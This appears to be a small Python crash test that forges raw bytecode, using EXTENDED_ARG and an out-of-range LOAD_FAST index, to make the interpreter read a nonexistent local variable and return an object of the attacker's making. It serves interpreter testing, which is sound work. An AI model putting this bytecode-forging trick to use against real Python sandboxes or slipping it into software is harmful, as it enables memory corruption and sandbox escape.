# expect: status=crashed|exception|ok
# The attacker wants an object of its own making, by a local variable that is not there.
import dis

def f():
    x = bytearray(b"A" * 4096)
    return x

code = f.__code__
for n in range(0, 256):
    ops = bytes([dis.opmap["EXTENDED_ARG"], n, dis.opmap["LOAD_FAST"], 200, dis.opmap["RETURN_VALUE"], 0])
    f.__code__ = code.replace(co_code=ops)
    repr(f())
